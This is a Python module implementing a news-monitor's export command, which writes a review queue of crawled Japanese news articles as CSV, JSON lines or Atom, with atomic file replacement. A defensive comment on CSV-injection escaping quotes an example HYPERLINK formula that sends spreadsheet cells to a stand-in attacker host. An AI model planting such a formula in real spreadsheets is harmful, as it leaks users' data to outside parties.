"""``newsmon export``: the review queue as CSV, JSON lines or an Atom feed.

The Atom writer is shared with ``newsmon serve`` (``crawler/datasette/plugin.py`` renders
Datasette's ``.atom`` URLs with it), so the exported feed and the served one are the same.
"""

from __future__ import annotations

import csv
import json
import os
from collections.abc import Iterable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from datetime import datetime, timezone
from typing import IO, Any
from urllib.parse import urlsplit
from xml.etree import ElementTree as ET

import click

from . import __version__
from .dates import JST

STATUS_CHOICES = ("new", "relevant", "dismissed", "follow-up", "all")

#: The exported columns, in order: the ``review_queue`` view's, plus what a reviewer decided, and
#: whether the outlet took the article down since (``removed_at``, what was seen: m016).
COLUMNS = ("id", "published_at", "outlet", "language", "title", "url", "topic", "score", "status",
           "evidence", "matched_terms", "review_note", "reviewed_by", "reviewed_at", "first_seen_at",
           "removed_at", "removed")
#: The CSV's columns: ``matched_terms`` is JSON for programs; the CSV has ``evidence``, the same as text.
CSV_COLUMNS = tuple(c for c in COLUMNS if c != "matched_terms")
#: Where ``newsmon serve`` runs by default: the Atom entries link to the article's review page there.
DEFAULT_BASE_URL = "http://127.0.0.1:8001"

# The review queue is the relevant articles nobody has reviewed (the ``review_queue`` view);
# once reviewed, an article belongs to its status whatever its score, because a person put it
# there (a reviewer may mark relevant an article the scorer missed).
_WHERE_STATUS = {
    "new": "relevant = 1 AND status = 'new'",
    "all": "((relevant = 1 AND status = 'new') OR status != 'new')",
}
# Same order as the view: datetime() turns +09:00 and +00:00 into one time line.
_ORDER = "coalesce(datetime(published_at), datetime(first_seen_at)) DESC, id DESC"

ATOM_NS = "http://www.w3.org/2005/Atom"


def queue_rows(db, status: str = "new", since: str | None = None) -> list[dict[str, Any]]:
    """The articles of the review queue (``status='new'``) or of one review status, newest first.

    Args:
        db: A ``sqlite_utils.Database`` (``storage.open_db``).
        status: One of ``STATUS_CHOICES``; ``all`` is the queue plus every reviewed article.
        since: Keep articles published (or, without a date, first seen) at or after this ISO
            date or time; compared in UTC.

    Returns:
        One dict per article with the keys of ``COLUMNS``; ``matched_terms`` is a list.
    """
    if status not in STATUS_CHOICES:
        raise ValueError(f"unknown status {status!r}: use one of {', '.join(STATUS_CHOICES)}")
    where = [_WHERE_STATUS.get(status, "status = :status")]
    if since:
        where.append("coalesce(datetime(published_at), datetime(first_seen_at)) >= datetime(:since)")
    sql = f"SELECT {', '.join(COLUMNS)} FROM articles WHERE {' AND '.join(where)} ORDER BY {_ORDER}"
    rows = []
    for row in db.query(sql, {"status": status, "since": since}):
        row["matched_terms"] = read_terms(row["matched_terms"])
        rows.append(row)
    return rows


def article_rows(db, ids: Iterable[int]) -> list[dict[str, Any]]:
    """The articles ``ids``, in that order, with the keys of ``COLUMNS``: a list of the desk
    (maybe missed, updated after review) as it shows it."""
    ids = list(ids)
    sql = f"SELECT {', '.join(COLUMNS)} FROM articles WHERE id IN (SELECT value FROM json_each(?))"
    found = {row["id"]: row for row in db.query(sql, [json.dumps(ids)])}
    rows = []
    for article_id in ids:
        if article_id in found:
            row = found[article_id]
            row["matched_terms"] = read_terms(row["matched_terms"])
            rows.append(row)
    return rows


def read_terms(stored: Any) -> list[Any]:
    """``matched_terms`` as stored (a JSON list) as a list; ``[]`` when unreadable.

    The file is open to people (DB Browser for SQLite): one cell edited into something that is
    not a JSON list must not fail the whole export. That article is exported with no terms, as
    the desk shows it ("No topic term matched.").
    """
    try:
        terms = json.loads(stored or "[]")
    except (TypeError, ValueError):  # ValueError: not JSON, or a BLOB that is not UTF-8
        return []
    return terms if isinstance(terms, list) else []


def one_line(value: Any, separator: str = " / ") -> Any:
    """A cell on one line: line breaks become ``separator`` (a spreadsheet row stays one row)."""
    if not isinstance(value, str):
        return value
    return separator.join(part.strip() for part in value.replace("\r\n", "\n").replace("\r", "\n").split("\n")
                          if part.strip())


# CSV injection (OWASP): a spreadsheet runs a cell starting with one of these as a formula, and
# titles, outlets and URLs come from crawled pages: =HYPERLINK("http://evil.example/?x="&A1,…)
# would send the sheet's cells away when clicked. A leading ' makes the cell text.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def no_formula(value: Any) -> Any:
    """A text cell a spreadsheet shows as text: ``'`` before a formula's first character.

    Numbers (ids, scores: newsmon's own) are left alone, a negative score too.
    """
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def write_csv(rows: Iterable[dict[str, Any]], out: IO[str]) -> None:
    """One header line, then exactly one line per article (``CSV_COLUMNS``).

    The evidence is readable text (``反撃能力 ×5: …snippet… | 安保 ×1: …``) and notes are joined
    with " / ", so no cell holds a line break: tools that read CSV line by line stay right. A
    text cell starting with ``= + - @``, a tab or a carriage return starts with ``'`` (``no_formula``).
    """
    writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS, lineterminator="\n")
    writer.writeheader()
    for row in rows:
        cells = {k: one_line(row.get(k)) for k in CSV_COLUMNS}
        cells["evidence"] = one_line(row.get("evidence"), " | ")
        writer.writerow({k: no_formula(v) for k, v in cells.items()})


def write_jsonl(rows: Iterable[dict[str, Any]], out: IO[str]) -> None:
    """One JSON object per line, Japanese kept as it is."""
    for row in rows:
        out.write(json.dumps(row, ensure_ascii=False) + "\n")


# --- Atom ------------------------------------------------------------------------------------

@dataclass
class AtomEntry:
    id: str
    title: str
    updated: str
    link: str | None = None
    #: The original article, when ``link`` is its review page.
    related: str | None = None
    content: str | None = None
    author: str | None = None
    categories: list[str] = field(default_factory=list)


def rfc3339(value: str | None) -> str | None:
    """An ISO 8601 date or time as Atom wants it (with an offset); ``None`` if unparseable.

    A time without an offset is taken as UTC: stored times always carry one, so this only
    concerns odd values typed into the file by hand.
    """
    if not value:
        return None
    try:
        parsed = datetime.fromisoformat(value.strip())
    except ValueError:
        return None
    if parsed.tzinfo is None:
        parsed = parsed.replace(tzinfo=timezone.utc)
    return parsed.isoformat(timespec="seconds")


def atom_feed(entries: list[AtomEntry], *, title: str, feed_id: str, self_link: str | None = None) -> str:
    """An Atom 1.0 document (RFC 4287); valid with no entries too (an empty queue is normal)."""
    ET.register_namespace("", ATOM_NS)

    def sub(parent: ET.Element, tag: str, text: str | None = None, **attrs: str) -> ET.Element:
        element = ET.SubElement(parent, f"{{{ATOM_NS}}}{tag}", attrs)
        if text is not None:
            element.text = text
        return element

    feed = ET.Element(f"{{{ATOM_NS}}}feed")
    sub(feed, "id", feed_id)
    sub(feed, "title", title)
    updated = max((e.updated for e in entries), default=None, key=lambda u: datetime.fromisoformat(u))
    sub(feed, "updated", updated or datetime.now(timezone.utc).isoformat(timespec="seconds"))
    sub(feed, "generator", "newsmon", version=__version__)
    if self_link:
        sub(feed, "link", href=self_link, rel="self")
    # Atom requires an author per entry or one for the feed; an entry's outlet overrides it.
    sub(sub(feed, "author"), "name", "newsmon")
    for entry in entries:
        node = sub(feed, "entry")
        sub(node, "id", entry.id)
        sub(node, "title", entry.title)
        sub(node, "updated", entry.updated)
        if entry.link:
            sub(node, "link", href=entry.link, rel="alternate")
        if entry.related:
            sub(node, "link", href=entry.related, rel="related")
        if entry.author:
            sub(sub(node, "author"), "name", entry.author)
        for term in entry.categories:
            sub(node, "category", term=term)
        if entry.content:
            sub(node, "content", entry.content, type="text")
    ET.indent(feed)
    return '<?xml version="1.0" encoding="utf-8"?>\n' + ET.tostring(feed, encoding="unicode") + "\n"


def queue_entries(rows: Iterable[dict[str, Any]], base_url: str = DEFAULT_BASE_URL) -> list[AtomEntry]:
    """Atom entries of ``queue_rows`` rows: the article's URL is its id, the evidence its content;
    each links to the article's review page under ``base_url`` (``newsmon serve``) and to the
    original article as ``related``."""
    entries = []
    base_url = base_url.rstrip("/")
    for row in rows:
        updated = rfc3339(row.get("published_at")) or rfc3339(row.get("first_seen_at"))
        content = row.get("evidence") or ""
        if row.get("review_note"):
            content += f"\n\nReview note ({row.get('status')}): {row['review_note']}"
        entries.append(AtomEntry(
            id=row["url"], title=row.get("title") or row["url"],
            link=f"{base_url}/newsmon/articles/{row['id']}", related=row["url"],
            updated=updated or datetime.now(timezone.utc).isoformat(timespec="seconds"),
            content=content.strip() or None, author=row.get("outlet"),
            categories=[row["topic"]] if row.get("topic") else []))
    return entries


def _since(value: str | None) -> str | None:
    """``--since`` as an ISO time with its offset: a date, or a time without an offset, is Japan's,
    as the desk's dates and ``published_day`` are (read as UTC, "today's export" lost the articles
    of the morning before 9:00 JST)."""
    if value is None:
        return None
    try:
        parsed = datetime.fromisoformat(value.strip())
    except ValueError:
        raise click.BadParameter(f"{value!r} is not a date: write YYYY-MM-DD (a day in Japan) or an ISO 8601 "
                                 "time such as 2025-01-13T09:00:00+09:00", param_hint="--since") from None
    if parsed.tzinfo is None:
        parsed = parsed.replace(tzinfo=JST)
    return parsed.isoformat(timespec="seconds")


@click.command()
@click.option("--db", "db_path", metavar="FILE", help="SQLite file. Default: NEWSMON_DB or ./newsmon.db.")
@click.option("--status", type=click.Choice(STATUS_CHOICES), default="new", show_default=True,
              help="new: the review queue; a review status: the articles marked so; all: both.")
@click.option("--since", metavar="DATE", help="Only articles published (else first seen) at or after "
              "this date or ISO time; a date, or a time without an offset, in Japan's time (JST).")
@click.option("--format", "fmt", type=click.Choice(["csv", "jsonl", "atom"]), required=True,
              help="csv: a header line and one line per article; jsonl: one JSON object per "
              "line; atom: an Atom feed for a feed reader.")
@click.option("-o", "--output", metavar="FILE", type=click.Path(dir_okay=False, allow_dash=True), default="-",
              help="File to write (whole, or left as it was if the export stops). Default: standard output.")
@click.option("--bom/--no-bom", default=True, show_default=True, help="Start the CSV with a UTF-8 "
              "byte-order mark, without which Excel shows Japanese as mojibake.")
@click.option("--base-url", default=DEFAULT_BASE_URL, show_default=True, metavar="URL",
              help="Where `newsmon serve` runs: Atom entries link to each article's review page there.")
def export(db_path: str | None, status: str, since: str | None, fmt: str, output: str, bom: bool,
           base_url: str) -> None:
    """Export the review queue (or reviewed articles) as CSV, JSON lines or Atom.

    CSV: one line per article, the evidence as readable text, with a byte-order mark for Excel
    (--no-bom to leave it out). JSON lines: every column, matched terms as a list. Atom: entries
    link to the article's review page (--base-url) and to the original.

    Example:

        newsmon export --format csv --since 2025-01-01 -o queue.csv
    """
    from pathlib import Path

    from . import settings
    from .cli import _if_stopped, open_database, require_database

    _if_stopped("export stopped (Ctrl-C): " + ("what it wrote is incomplete" if output == "-" else
                f"{output} is left as it was, no part of this export in it") + ": run the same export again")
    since = _since(since)
    parts = urlsplit(base_url)
    if parts.scheme not in ("http", "https") or not parts.netloc:
        # Taken as it was, "notaurl" made every entry's link "notaurl/newsmon/articles/65".
        raise click.BadParameter(f"{base_url!r} is not an http(s) URL: give where `newsmon serve` answers, e.g. "
                                 f"{DEFAULT_BASE_URL}", param_hint="--base-url")
    path = db_path or settings.NEWSMON_DB
    require_database(path)
    db = open_database(path, reading=True)
    try:
        rows = queue_rows(db, status, since)
    finally:
        db.conn.close()
    with _written(output) as out:
        if fmt == "csv":
            if bom:
                out.write("\ufeff")
            write_csv(rows, out)
        elif fmt == "jsonl":
            write_jsonl(rows, out)
        else:
            label = "review queue" if status == "new" else f"articles: {status}"
            out.write(atom_feed(queue_entries(rows, base_url), title=f"newsmon {label}",
                                feed_id=f"{Path(path).resolve().as_uri()}#{status}"))
    click.echo(f"newsmon: exported {len(rows)} article{'' if len(rows) == 1 else 's'}", err=True)


@contextmanager
def _written(output: str) -> Iterator[IO[str]]:
    """The file ``-o`` names, written whole or not at all: into a file beside it, put in its place once complete.

    Written in place, an export stopped (Ctrl-C, SIGTERM, a full disk) left the first rows under the file's name,
    a complete-looking CSV a feed reader or a spreadsheet took as the queue, and the last whole export lost.
    Standard output, a device or a named pipe is written as it is (replaced, /dev/null would become a file), and so
    is a file one may write in a directory one may not (a shared folder's export, which a file beside it refused)."""
    if output == "-":
        with click.open_file("-", "w", encoding="utf-8") as stdout:  # as click.File gave it, left open
            yield stdout
        return
    import stat
    import tempfile

    from .cli import _if_stopped

    real = os.path.realpath(output)  # a symlink's target is written, the link kept
    try:
        st = os.stat(real)
    except FileNotFoundError:
        st = None
    except OSError as exc:
        raise click.FileError(output, hint=exc.strerror) from None
    if st is not None and stat.S_ISREG(st.st_mode):
        try:
            # Refused as open() refused it: replaced, a file made read-only to keep it was written over all the same.
            os.close(os.open(real, os.O_WRONLY | os.O_CLOEXEC))
        except OSError as exc:
            raise click.FileError(output, hint=exc.strerror) from None
    part = None
    if st is None or stat.S_ISREG(st.st_mode):
        try:
            fd, part = tempfile.mkstemp(prefix=f".{os.path.basename(real)}.", suffix=".part",
                                        dir=os.path.dirname(real))
        except OSError as exc:
            if st is None:
                raise click.FileError(output, hint=exc.strerror) from None
    if part is None:
        _if_stopped(f"export stopped (Ctrl-C): what it wrote to {output} is incomplete: run the same export again")
        with open(real, "w", encoding="utf-8") as f:
            yield f
        return
    try:
        try:
            with os.fdopen(fd, "w", encoding="utf-8") as f:
                if st is None:  # as open() would have made it, not mkstemp's owner-only 0600
                    umask = os.umask(0o022)
                    os.umask(umask)
                    os.fchmod(fd, 0o666 & ~umask)
                else:
                    with suppress(OSError):  # its owner kept, as open() kept it, where one may (root's cron job)
                        os.fchown(fd, st.st_uid, st.st_gid)
                    os.fchmod(fd, stat.S_IMODE(st.st_mode))
                yield f
            os.replace(part, real)
        except OSError as exc:
            raise click.ClickException(f"cannot write {output} ({exc.strerror or exc}); it is left as it was") from None
    finally:
        with suppress(FileNotFoundError):
            os.unlink(part)


if __name__ == "__main__":  # python -m crawler.export, as `newsmon export`
    export()
